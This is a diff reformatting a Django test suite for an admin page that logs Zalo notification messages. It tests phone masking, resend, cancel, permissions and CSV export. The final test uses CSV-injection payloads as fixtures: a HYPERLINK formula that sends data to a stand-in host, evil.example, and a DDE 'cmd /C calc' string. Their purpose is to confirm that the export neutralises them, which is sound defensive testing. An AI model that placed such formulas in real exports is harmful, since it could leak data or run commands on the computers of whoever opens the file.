@@ -46,33 +46,54 @@ ANSWER = {"error": 0, "message": "Success", "data": {"msg_id": "m1"}}
 
 
 def attempt(message: Message, **payload) -> MessageEvent:
-    body = {"phone": message.phone, "template_id": message.zalo_template_id,
-            "template_data": {"contact": "0912345678"}, "tracking_id": message.idempotency_key,
-            **payload}
+    body = {
+        "phone": message.phone,
+        "template_id": message.zalo_template_id,
+        "template_data": {"contact": "0912345678"},
+        "tracking_id": message.idempotency_key,
+        **payload,
+    }
     return MessageEvent.objects.create(
-        message=message, kind="attempt", status="sent", detail="Accepted by Zalo as m1.",
-        payload={"request": {"path": "/message/template", "body": body}, "answer": ANSWER})
+        message=message,
+        kind="attempt",
+        status="sent",
+        detail="Accepted by Zalo as m1.",
+        payload={"request": {"path": "/message/template", "body": body}, "answer": ANSWER},
+    )
 
 
 # -- the list -------------------------------------------------------------------------------
+
 
 def test_the_list_shows_badges_template_order_link_error_and_masked_phone(client, staff):
     staff("view_message")
     order = OrderFactory()
     binding = BindingFactory()
-    MessageFactory(template=binding.template, order_pk=str(order.pk), order_ref=order.code,
-                   status="failed", error_code=-118, error_category="recipient",
-                   error_message="Zalo account not existed")
-    MessageFactory(template=binding.template, order_type="api.order", order_pk="x-9",
-                   order_ref="EXT-9", phone="84900000009")
-    MessageFactory(template=binding.template, order_type="nowhere.model", order_pk="1",
-                   order_ref="NOPE-1")
+    MessageFactory(
+        template=binding.template,
+        order_pk=str(order.pk),
+        order_ref=order.code,
+        status="failed",
+        error_code=-118,
+        error_category="recipient",
+        error_message="Zalo account not existed",
+    )
+    MessageFactory(
+        template=binding.template,
+        order_type="api.order",
+        order_pk="x-9",
+        order_ref="EXT-9",
+        phone="84900000009",
+    )
+    MessageFactory(
+        template=binding.template, order_type="nowhere.model", order_pk="1", order_ref="NOPE-1"
+    )
     html = client.get(LIST).content.decode()
     assert 'class="zns-badge zns-badge--failed">Failed<' in html
     assert f"{binding.template.name} · {binding.template.template_id}" in html
     assert f'<a href="/admin/shop/order/{order.pk}/change/">{order.code}</a>' in html
     assert "EXT-9" in html and "/admin/api/" not in html  # no link for api.order
-    assert "NOPE-1" in html and 'NOPE-1</a>' not in html  # nor for a model the admin lacks
+    assert "NOPE-1" in html and "NOPE-1</a>" not in html  # nor for a model the admin lacks
     assert "recipient" in html and "-118" in html and "Zalo account not existed" in html
     assert "********009" in html and "84900000009" not in html
 
@@ -88,8 +109,13 @@ def test_the_list_query_count_does_not_grow_with_rows(client, staff, django_asse
         client.get(LIST)
     original = MessageFactory(status="failed")
     for n in range(30):
-        MessageFactory(order_pk=str(order.pk), status="delivered", resent_from=original,
-                       error_category="recipient", error_code=-118)
+        MessageFactory(
+            order_pk=str(order.pk),
+            status="delivered",
+            resent_from=original,
+            error_category="recipient",
+            error_code=-118,
+        )
     with CaptureQueriesContext(connection) as many:
         assert client.get(LIST).status_code == 200
     assert len(many) <= len(one)
@@ -106,8 +132,9 @@ def test_a_copy_names_its_original_in_the_list(client, staff):
 def test_dates_are_in_vietnamese_format_when_the_language_is_vi(client, staff):
     staff("view_message")
     created = timezone.make_aware(dt.datetime(2026, 11, 21, 14, 5))
-    message = MessageFactory(created_at=created, status="delivered",
-                             delivered_at=created + dt.timedelta(minutes=1))
+    message = MessageFactory(
+        created_at=created, status="delivered", delivered_at=created + dt.timedelta(minutes=1)
+    )
     html = client.get(LIST, HTTP_ACCEPT_LANGUAGE="vi").content.decode()
     assert "14:05 21-11-2026" in html
     assert 'đã nhận <span class="zns-when">14:06 21-11-2026</span>' in html
@@ -145,10 +172,16 @@ def test_the_event_filter_names_events_in_the_operators_language(client, staff):
     assert "order_created — Order created" in english
 
 
-@pytest.mark.parametrize("lookup", [
-    {"phone": "84912345678"}, {"phone__startswith": "8491234"}, {"phone__contains": "345"},
-    {"params__contact": "0912345678"}, {"params__icontains": "0912"},
-])
+@pytest.mark.parametrize(
+    "lookup",
+    [
+        {"phone": "84912345678"},
+        {"phone__startswith": "8491234"},
+        {"phone__contains": "345"},
+        {"params__contact": "0912345678"},
+        {"params__icontains": "0912"},
+    ],
+)
 def test_staff_without_view_full_phone_cannot_filter_by_phone_in_the_url(client, staff, lookup):
     # The admin lets any local field be filtered from the URL: phone__startswith, one digit
     # at a time, would spell out every masked number (the list shows the last three).
@@ -171,30 +204,62 @@ def test_staff_with_view_full_phone_may_filter_by_phone_in_the_url(client, staff
 
 # -- the detail page --------------------------------------------------------------------------
 
+
 def test_the_timeline_is_whole_in_order_and_masks_the_phone(client, staff):
     staff("view_message")
     now = timezone.now()
-    message = MessageFactory(status="delivered", msg_id="m1", created_at=now - dt.timedelta(minutes=5),
-                             delivered_at=now - dt.timedelta(minutes=1))
-    MessageEvent.objects.create(message=message, kind="policy", status="queued",
-                                at=now - dt.timedelta(minutes=4), detail="Deferred: quiet hours")
+    message = MessageFactory(
+        status="delivered",
+        msg_id="m1",
+        created_at=now - dt.timedelta(minutes=5),
+        delivered_at=now - dt.timedelta(minutes=1),
+    )
+    MessageEvent.objects.create(
+        message=message,
+        kind="policy",
+        status="queued",
+        at=now - dt.timedelta(minutes=4),
+        detail="Deferred: quiet hours",
+    )
     event = attempt(message, access_token="leaked-token")
     event.at = now - dt.timedelta(minutes=3)
     event.save()
-    MessageEvent.objects.create(message=message, kind="receipt", status="delivered",
-                                at=now - dt.timedelta(seconds=30), detail="user_received_message m1")
+    MessageEvent.objects.create(
+        message=message,
+        kind="receipt",
+        status="delivered",
+        at=now - dt.timedelta(seconds=30),
+        detail="user_received_message m1",
+    )
     WebhookEvent.objects.create(
-        event_name="user_received_message", dedup_key="d1", subject="m1", outcome="applied",
+        event_name="user_received_message",
+        dedup_key="d1",
+        subject="m1",
+        outcome="applied",
         received_at=now - dt.timedelta(seconds=30),
-        body='{"recipient": {"id": "84912345678"}, "message": {"msg_id": "m1"}}')
+        body='{"recipient": {"id": "84912345678"}, "message": {"msg_id": "m1"}}',
+    )
     WebhookEvent.objects.create(  # a rating Zalo sent with the tracking id only
-        event_name="user_feedback", dedup_key="d2", subject=message.idempotency_key,
-        outcome="applied", received_at=now, body='{"message": {"rate": 5}}')
+        event_name="user_feedback",
+        dedup_key="d2",
+        subject=message.idempotency_key,
+        outcome="applied",
+        received_at=now,
+        body='{"message": {"rate": 5}}',
+    )
     html = client.get(change(message.pk)).content.decode()
     assert html.count("zns-entry--webhook") == 2
-    order = [html.index(marker) for marker in (
-        "zns-entry--enqueued", "zns-entry--policy", "zns-entry--attempt",
-        "zns-entry--delivered", "zns-entry--receipt", "zns-entry--webhook")]
+    order = [
+        html.index(marker)
+        for marker in (
+            "zns-entry--enqueued",
+            "zns-entry--policy",
+            "zns-entry--attempt",
+            "zns-entry--delivered",
+            "zns-entry--receipt",
+            "zns-entry--webhook",
+        )
+    ]
     assert order == sorted(order)
     assert "Request to Zalo" in html and "&quot;msg_id&quot;: &quot;m1&quot;" in html
     assert "leaked-token" not in html and "[removed]" in html
@@ -203,7 +268,8 @@ def test_the_timeline_is_whole_in_order_and_masks_the_phone(client, staff):
 
 
 def test_a_hashed_send_hides_the_phones_hash_from_staff_without_view_full_phone(
-        client, staff, settings):
+    client, staff, settings
+):
     # ZNS_NOTIFY HASH_PHONE sends SHA-256(phone) instead of the number: Vietnamese mobile
     # numbers are few enough (~10^9) to recover one from its hash in seconds, so the hash
     # is the number to whoever may not see it.
@@ -212,11 +278,21 @@ def test_a_hashed_send_hides_the_phones_hash_from_staff_without_view_full_phone(
     staff("view_message")
     message = MessageFactory(status="sent")
     path, body = ZaloClient.send_template_request(
-        phone=message.phone, template_id=message.zalo_template_id, data=message.params,
-        tracking_id=message.idempotency_key, hashed=True)
-    MessageEvent.objects.create(message=message, kind="attempt", status="sent", payload={
-        "request": {"path": path, "body": body},
-        "answer": {"error": -108, "message": f"no user for {hash_phone(message.phone)}"}})
+        phone=message.phone,
+        template_id=message.zalo_template_id,
+        data=message.params,
+        tracking_id=message.idempotency_key,
+        hashed=True,
+    )
+    MessageEvent.objects.create(
+        message=message,
+        kind="attempt",
+        status="sent",
+        payload={
+            "request": {"path": path, "body": body},
+            "answer": {"error": -108, "message": f"no user for {hash_phone(message.phone)}"},
+        },
+    )
     digest = hash_phone(message.phone)
     html = client.get(change(message.pk)).content.decode()
     assert "hash_phone" in html and digest not in html
@@ -232,7 +308,8 @@ def test_staff_with_view_full_phone_see_the_number_in_the_payload(client, staff)
 
 
 def test_the_detail_page_renders_in_a_bounded_number_of_queries(
-        client, staff, django_assert_max_num_queries):
+    client, staff, django_assert_max_num_queries
+):
     staff("view_message")
     message = MessageFactory(msg_id="m1")
     for _ in range(20):
@@ -260,21 +337,28 @@ def test_webhooks_and_ratings_add_no_query_per_entry(client, staff):
     few = page_queries()
     for n in range(40):
         WebhookEvent.objects.create(
-            event_name="user_received_message" if n % 2 else "user_feedback", dedup_key=f"d{n}",
-            subject="m1" if n % 3 else message.idempotency_key, outcome="applied",
-            received_at=timezone.now(), body='{"recipient": {"id": "84912345678"}}')
-        MessageFeedback.objects.create(message=message, msg_id="m1", rate=5, note="tốt",
-                                       received_at=timezone.now())
+            event_name="user_received_message" if n % 2 else "user_feedback",
+            dedup_key=f"d{n}",
+            subject="m1" if n % 3 else message.idempotency_key,
+            outcome="applied",
+            received_at=timezone.now(),
+            body='{"recipient": {"id": "84912345678"}}',
+        )
+        MessageFeedback.objects.create(
+            message=message, msg_id="m1", rate=5, note="tốt", received_at=timezone.now()
+        )
         attempt(message)
     assert page_queries() == few
 
 
 # -- resend -------------------------------------------------------------------------------------
 
+
 def test_resend_creates_a_linked_audited_copy_with_a_fresh_tracking_id(client, staff):
     user = staff("view_message", "resend_message")
-    original = MessageFactory(status="failed", error_code=-118, error_category="recipient",
-                              attempts=2)
+    original = MessageFactory(
+        status="failed", error_code=-118, error_category="recipient", attempts=2
+    )
     response = follow(client, reverse("admin:zns_notify_message_resend", args=[original.pk]))
     copy = Message.objects.exclude(pk=original.pk).get()
     assert response.redirect_chain[-1][0] == change(copy.pk)
@@ -282,7 +366,10 @@ def test_resend_creates_a_linked_audited_copy_with_a_fresh_tracking_id(client, s
     assert copy.resent_from_id == original.pk
     assert (copy.status, copy.attempts, copy.error_code, copy.msg_id) == ("queued", 0, None, "")
     assert (copy.phone, copy.params, copy.zalo_template_id) == (
-        original.phone, original.params, original.zalo_template_id)
+        original.phone,
+        original.params,
+        original.zalo_template_id,
+    )
     assert copy.idempotency_key != original.idempotency_key
     assert len(copy.idempotency_key) == 43 and copy.idempotency_key.startswith("zns")
     assert copy.idempotency_key.isalnum() and copy.idempotency_key.islower()
@@ -292,9 +379,14 @@ def test_resend_creates_a_linked_audited_copy_with_a_fresh_tracking_id(client, s
     assert notes[original.pk].payload == {"user": user.username, "resent_as": copy.pk}
     entries = LogEntry.objects.filter(user=user).order_by("pk")
     assert [(e.object_id, e.action_flag) for e in entries] == [
-        (str(copy.pk), 1), (str(original.pk), 2)]
+        (str(copy.pk), 1),
+        (str(original.pk), 2),
+    ]
     # The original's page links to the copy.
-    assert f'href="{change(copy.pk)}">#{copy.pk}</a>' in client.get(change(original.pk)).content.decode()
+    assert (
+        f'href="{change(copy.pk)}">#{copy.pk}</a>'
+        in client.get(change(original.pk)).content.decode()
+    )
 
 
 def test_resend_queues_the_copy_for_the_worker(client, staff, django_capture_on_commit_callbacks):
@@ -317,8 +409,10 @@ def test_a_double_click_on_resend_queues_one_copy(client, staff):
     follow(client, url)
     response = follow(client, url)
     copy = Message.objects.get(resent_from=original)
-    assert (f"Message #{original.pk} was already resent as message #{copy.pk}, which is "
-            f"still Queued: wait for its outcome before resending it again.") in shown(response)
+    assert (
+        f"Message #{original.pk} was already resent as message #{copy.pk}, which is "
+        f"still Queued: wait for its outcome before resending it again."
+    ) in shown(response)
     assert LogEntry.objects.count() == 2  # the first resend's two entries, nothing more
     Message.objects.filter(pk=copy.pk).update(status="failed")
     follow(client, url)
@@ -335,7 +429,10 @@ def test_a_resend_of_a_resend_links_to_the_copy_it_repeats():
     first.refresh_from_db()
     second = log_actions.resend(first, user)
     assert (second.resent_from_id, second.phone, second.params) == (
-        first.pk, original.phone, original.params)
+        first.pk,
+        original.phone,
+        original.params,
+    )
     assert len({original.idempotency_key, first.idempotency_key, second.idempotency_key}) == 3
 
 
@@ -376,8 +473,9 @@ def test_resend_needs_its_permission(client, staff):
     assert 'name="resend"' not in client.get(change(message.pk)).content.decode()
     # The action is not offered, and a forged one says what is missing.
     assert "resend_selected" not in client.get(LIST).content.decode()
-    response = client.post(LIST, {"action": "resend_selected", "_selected_action": [message.pk]},
-                           follow=True)
+    response = client.post(
+        LIST, {"action": "resend_selected", "_selected_action": [message.pk]}, follow=True
+    )
     assert any("zns_notify.resend_message" in m for m in shown(response))
     assert Message.objects.count() == 1
 
@@ -385,15 +483,20 @@ def test_resend_needs_its_permission(client, staff):
 def test_resend_is_post_only(client, staff):
     staff("view_message", "resend_message")
     message = MessageFactory(status="failed")
-    assert client.get(reverse("admin:zns_notify_message_resend", args=[message.pk])).status_code == 405
+    assert (
+        client.get(reverse("admin:zns_notify_message_resend", args=[message.pk])).status_code == 405
+    )
 
 
 def test_the_resend_action_resends_final_ones_and_names_the_others(client, staff):
     staff("view_message", "resend_message")
     failed = MessageFactory(status="failed")
     waiting = MessageFactory(status="queued")
-    response = client.post(LIST, {"action": "resend_selected",
-                                  "_selected_action": [failed.pk, waiting.pk]}, follow=True)
+    response = client.post(
+        LIST,
+        {"action": "resend_selected", "_selected_action": [failed.pk, waiting.pk]},
+        follow=True,
+    )
     texts = shown(response)
     assert "1 message was resent." in texts
     assert any(f"Message #{waiting.pk} is Queued" in t for t in texts)
@@ -405,8 +508,9 @@ def test_the_resend_action_refuses_too_many_at_once(client, staff, monkeypatch):
     staff("view_message", "resend_message")
     monkeypatch.setattr(log_actions, "MAX_RESEND", 2)
     pks = [MessageFactory(status="failed").pk for _ in range(3)]
-    response = client.post(LIST, {"action": "resend_selected", "_selected_action": pks},
-                           follow=True)
+    response = client.post(
+        LIST, {"action": "resend_selected", "_selected_action": pks}, follow=True
+    )
     assert "Resend at most 2 messages at a time; nothing was resent." in shown(response)
     assert Message.objects.count() == 3
 
@@ -422,18 +526,29 @@ def test_an_action_with_nothing_selected_says_so(client, staff):
 
 # -- cancel ---------------------------------------------------------------------------------
 
-def test_cancel_stops_a_waiting_message_with_a_note_an_audit_and_the_signal(client, staff,
-                                                                           django_capture_on_commit_callbacks):
+
+def test_cancel_stops_a_waiting_message_with_a_note_an_audit_and_the_signal(
+    client, staff, django_capture_on_commit_callbacks
+):
     user = staff("view_message", "cancel_message")
-    message = MessageFactory(status="queued", next_attempt_at=timezone.now() + dt.timedelta(hours=1),
-                             error_category="policy", error_message="Deferred: quiet hours")
-    with listening(signals.message_skipped) as seen, \
-            django_capture_on_commit_callbacks(execute=True):
+    message = MessageFactory(
+        status="queued",
+        next_attempt_at=timezone.now() + dt.timedelta(hours=1),
+        error_category="policy",
+        error_message="Deferred: quiet hours",
+    )
+    with (
+        listening(signals.message_skipped) as seen,
+        django_capture_on_commit_callbacks(execute=True),
+    ):
         response = follow(client, reverse("admin:zns_notify_message_cancel", args=[message.pk]))
     assert f"Message #{message.pk} was cancelled." in shown(response)
     message.refresh_from_db()
     assert (message.status, message.error_category, message.next_attempt_at) == (
-        "cancelled", "operator", None)
+        "cancelled",
+        "operator",
+        None,
+    )
     assert message.error_message == f"Cancelled by {user.username}."
     [(signal, kwargs)] = seen
     assert signal is signals.message_skipped
@@ -470,8 +585,9 @@ def test_cancel_needs_its_permission(client, staff):
     message = MessageFactory(status="queued")
     response = follow(client, reverse("admin:zns_notify_message_cancel", args=[message.pk]))
     assert any("“Can cancel waiting messages”" in m for m in shown(response))
-    response = client.post(LIST, {"action": "cancel_selected", "_selected_action": [message.pk]},
-                           follow=True)
+    response = client.post(
+        LIST, {"action": "cancel_selected", "_selected_action": [message.pk]}, follow=True
+    )
     assert any("zns_notify.cancel_message" in m for m in shown(response))
     assert Message.objects.get().status == "queued"
 
@@ -497,17 +613,22 @@ def test_the_cancel_action_cancels_the_waiting_ones_only(client, staff):
     staff("view_message", "cancel_message")
     waiting = MessageFactory(status="queued")
     sending = MessageFactory(status="sending")
-    response = client.post(LIST, {"action": "cancel_selected",
-                                  "_selected_action": [waiting.pk, sending.pk]}, follow=True)
+    response = client.post(
+        LIST,
+        {"action": "cancel_selected", "_selected_action": [waiting.pk, sending.pk]},
+        follow=True,
+    )
     assert "1 message was cancelled." in shown(response)
     assert Message.objects.get(pk=waiting.pk).status == "cancelled"
     assert Message.objects.get(pk=sending.pk).status == "sending"
-    response = client.post(LIST, {"action": "cancel_selected", "_selected_action": [sending.pk]},
-                           follow=True)
+    response = client.post(
+        LIST, {"action": "cancel_selected", "_selected_action": [sending.pk]}, follow=True
+    )
     assert any(m.startswith("Nothing was cancelled") for m in shown(response))
 
 
 # -- export ---------------------------------------------------------------------------------
+
 
 def read_csv(response) -> list[list[str]]:
     import csv
@@ -521,8 +642,12 @@ def read_csv(response) -> list[list[str]]:
 def test_export_streams_the_filtered_list_with_masked_phones(client, staff):
     staff("view_message")
     for n in range(5):
-        MessageFactory(status="failed", phone=f"8491234500{n}", order_ref=f"DH{n}",
-                       params={"customer_name": "Nguyễn Thị Lan"})
+        MessageFactory(
+            status="failed",
+            phone=f"8491234500{n}",
+            order_ref=f"DH{n}",
+            params={"customer_name": "Nguyễn Thị Lan"},
+        )
     MessageFactory(status="delivered", order_ref="OTHER")
     response = client.get(EXPORT, {"status__exact": "failed"})
     assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
@@ -538,8 +663,13 @@ def test_export_pages_by_keyset_through_ties_without_losing_a_row(monkeypatch):
     from zns_notify import log_export
 
     same = timezone.now()
-    pks = sorted((MessageFactory(created_at=same if n % 2 else same - dt.timedelta(seconds=n)).pk
-                  for n in range(11)), reverse=True)
+    pks = sorted(
+        (
+            MessageFactory(created_at=same if n % 2 else same - dt.timedelta(seconds=n)).pk
+            for n in range(11)
+        ),
+        reverse=True,
+    )
     rows = list(log_export.keyset_rows(Message.objects.all(), page=3))
     assert sorted(r[0] for r in rows) == sorted(pks) and len(rows) == 11
     assert rows == sorted(rows, key=lambda r: (r[1], r[0]), reverse=True)
@@ -586,6 +716,7 @@ def test_export_refuses_invalid_filters(client, staff):
 
 # -- permissions --------------------------------------------------------------------------------
 
+
 def test_connecting_the_oa_needs_the_dedicated_permission():
     from zns_notify.oauth import can_connect
 
@@ -625,14 +756,21 @@ def test_the_groups_command_creates_the_suggested_groups():
 
     call_command("zns_groups", verbosity=0)
     call_command("zns_groups", verbosity=0)  # twice: the same groups, not duplicates
-    operators = set(Group.objects.get(name="ZNS operators").permissions.values_list(
-        "codename", flat=True))
-    managers = set(Group.objects.get(name="ZNS managers").permissions.values_list(
-        "codename", flat=True))
+    operators = set(
+        Group.objects.get(name="ZNS operators").permissions.values_list("codename", flat=True)
+    )
+    managers = set(
+        Group.objects.get(name="ZNS managers").permissions.values_list("codename", flat=True)
+    )
     assert {"view_message", "resend_message", "cancel_message"} <= operators
     assert "view_full_phone" not in operators and "connect_zaloaccount" not in operators
-    assert {"view_full_phone", "change_binding", "add_binding", "delete_binding",
-            "connect_zaloaccount"} <= managers
+    assert {
+        "view_full_phone",
+        "change_binding",
+        "add_binding",
+        "delete_binding",
+        "connect_zaloaccount",
+    } <= managers
     assert operators <= managers
 
 
@@ -641,9 +779,14 @@ def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(client, st
     # An order reference comes from the shop's customers, an error from Zalo: a cell starting
     # with one of these is a formula to Excel/LibreOffice (CSV injection) unless quoted.
     staff("view_message")
-    evil = f"{start}HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
-    MessageFactory(order_ref=evil, status="failed", error_code=-124,
-                   error_category="recipient", error_message=f"{start}cmd|' /C calc'!A0")
+    evil = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
+    MessageFactory(
+        order_ref=evil,
+        status="failed",
+        error_code=-124,
+        error_category="recipient",
+        error_message=f"{start}cmd|' /C calc'!A0",
+    )
     header, row = read_csv(client.get(EXPORT))
     assert row[header.index("order_ref")] == "'" + evil
     assert row[header.index("reason")] == f"'{start}cmd|' /C calc'!A0"
